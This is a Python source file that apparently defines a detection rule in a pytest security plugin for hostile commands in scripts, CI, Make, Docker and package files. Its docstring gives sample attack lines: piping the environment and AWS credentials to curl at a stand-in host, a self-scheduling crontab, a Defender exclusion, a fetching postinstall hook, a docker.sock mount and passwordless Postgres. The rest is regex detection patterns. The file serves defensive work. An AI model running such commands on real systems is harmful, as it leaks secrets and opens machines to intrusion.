"""SMG230: a script does what only attackers do."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, text_rule
from pytest_selfmod_guard.rules.danger._destructive import Harm
from pytest_selfmod_guard.rules.danger._hostile import hostile
from pytest_selfmod_guard.view import Side

_COMMENTS = ("#", "//", "REM ", "rem ", "::", "-- ", "<!--")
_INSTALL = re.compile(r'"(?:pre|post)?install"\s{0,9}:\s{0,9}"[^"\n]{0,400}')
_FETCHES = re.compile(r"(?i)\b(?:curl|wget|node\s{1,9}-e|powershell|base64|eval|https?://|nc\s)")
_OPENED = re.compile(r'"runOn"\s{0,9}:\s{0,9}"folderOpen"')
_STARTUP = re.compile(
    r"\b(?:PYTHONSTARTUP|LD_PRELOAD|DYLD_INSERT_LIBRARIES)\s{0,3}[=:]\s{0,3}[\"']?\S"
)
_RIGHTS = re.compile(
    r"(?i)--privileged\b|^\s{0,20}privileged:\s{0,3}[\"']?true|/(?:var/)?run/(?:docker|containerd)\S{0,20}"
    r"\.sock|(?:\bpid|\bipc|\buserns_mode|\bcgroup)\s{0,3}[:=]\s{0,3}[\"']?host\b|host(?:PID|IPC)\s{0,3}:"
    r"\s{0,3}true|\ballowPrivilegeEscalation:\s{0,3}true|(?:^\s{0,20}-\s{0,3}[\"']?|-v\s{1,3}[\"']?"
    r"|--volume[= ][\"']?|source[=:]\s{0,3})/(?:etc|root|home|proc|sys)?/?(?::/\S{0,80}|,\S{0,80})"
    r"|\bcap[-_]add\b[^\n]{0,40}(?:ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)\b"
    r"|^\s{0,20}-\s{0,3}[\"']?(?:CAP_)?(?:SYS_ADMIN|SYS_MODULE|SYS_PTRACE)\b"
    r"|\b(?:seccomp|apparmor|label)[:=](?:unconfined|disable)"
)
_TRUST = re.compile(
    r"(?i)HOST_AUTH_METHOD[\"']?\s{0,3}[:=]\s{0,3}[\"']?trust\b|ALLOW_EMPTY_PASSWORD[\"']?\s{0,3}[:=]"
    r"\s{0,3}[\"']?(?:yes|true|1)|^\s{0,9}host\s{1,20}all\s{1,20}all\s{1,20}\S{1,40}\s{1,20}trust\b"
    r"|--protected-mode\s{1,3}no|xpack\.security\.enabled\s{0,3}[:=]\s{0,3}[\"']?false"
    r"|--(?:NotebookApp|ServerApp|IdentityProvider)\.token=[\"']{0,2}(?:\s|$)|PermitRootLogin\s{1,3}yes"
    r"|WERKZEUG_DEBUG_PIN\s{0,3}[= ]\s{0,3}[\"']?off"
)
_OPENED_UP = ("has rights over the whole machine", "lets anybody in without a password")
_LONGEST = 5000
_LINES = 40


@text_rule(
    "SMG230",
    risk=Risk.HIGH,
    hint="run only the program that the step needs; keys, accounts, schedules and defences of the "
    "machine are for who runs the script",
)
def hostile_command(side: Side) -> Iterable[Sighting]:
    """
    A script, CI step, Make or Docker file gains what only attackers do.

    It sends keys or the environment away, schedules itself, makes accounts,
    switches defences off, wipes traces, mines. Also in PowerShell and batch
    files, and in what runs when a package is installed or a folder opened. Of
    rights over the whole machine, and of services without a password, a person
    may say that they are meant. In prose it is silent.

    Flagged: the environment goes [critical]
        === scripts/build.sh
        + env | curl -s --data-binary @- https://example.invalid/in

    Flagged: over two lines
        === Makefile
          build:
        + 	cat ~/.aws/credentials | \\
        + 	  curl -d @- https://example.invalid

    Flagged: it schedules itself
        === .github/workflows/test.yml
        + - run: (crontab -l; echo "@hourly $PWD/run") | crontab -

    Flagged: PowerShell [critical]
        === setup.ps1
        + Add-MpPreference -ExclusionPath $env:TEMP

    Flagged: when the package is installed
        === package.json
        + "postinstall": "node -e \\"require('https').get('https://example.invalid')\\""

    Flagged: rights over the whole machine
        === compose.yaml
        + - /var/run/docker.sock:/var/run/docker.sock

    Flagged: no password
        === compose.yaml
        +       POSTGRES_HOST_AUTH_METHOD: trust

    Allowed: a program of the step
        === scripts/build.sh
        + curl -sSf -o data.json https://example.com/data.json
        + env | sort

    Allowed: prose, and a comment
        === docs/security.md
        + Attackers use `env | curl -d @- https://example.invalid`.
        === scripts/build.sh
        + # never: env | curl -d @- https://example.invalid
    """
    if paths.is_prose(side.path) and not side.is_executable:
        return
    test = paths.zone(side.path) == paths.TEST
    for number, line in _commands(side.lines):
        for harm in _harms(side.path, line)[:1]:
            risk = min(harm.risk, Risk.MEDIUM) if test else harm.risk
            settled = "review" if harm.what in _OPENED_UP else ""
            what, code = f"the command {harm.what}", " ".join(line.split())
            yield Sighting(number, what, code, risk=risk, settled_by=settled)


def _commands(lines: list[str]) -> Iterator[tuple[int, str]]:
    """Give each command with the number of its first line; those over several lines as one."""
    start, parts = 0, list[str]()
    for number, line in enumerate(lines, 1):
        if not parts and line.lstrip().startswith(_COMMENTS):
            continue
        start = start if parts else number
        parts.append(line.rstrip().removesuffix("\\").removesuffix("`").removesuffix("^"))
        if not line.rstrip().endswith(("\\", "|", "&&", "`", "^")) or len(parts) > _LINES:
            yield start, " ".join(parts)[:_LONGEST]
            parts = []
    if parts:
        yield start, " ".join(parts)[:_LONGEST]


def _harms(path: str, line: str) -> list[Harm]:
    found = hostile(line)
    if (
        path.endswith("package.json")
        and (script := _INSTALL.search(line))
        and _FETCHES.search(line, script.start())
    ):
        found.append(Harm("fetches or runs something when the package is installed", Risk.HIGH))
    if _OPENED.search(line):
        found.append(Harm("runs as soon as the folder is opened", Risk.HIGH))
    if _STARTUP.search(line):
        found.append(Harm("loads something into every program", Risk.HIGH))
    if _RIGHTS.search(line):
        found.append(Harm(_OPENED_UP[0], Risk.HIGH))
    if _TRUST.search(line):
        found.append(Harm(_OPENED_UP[1], Risk.HIGH))
    return found
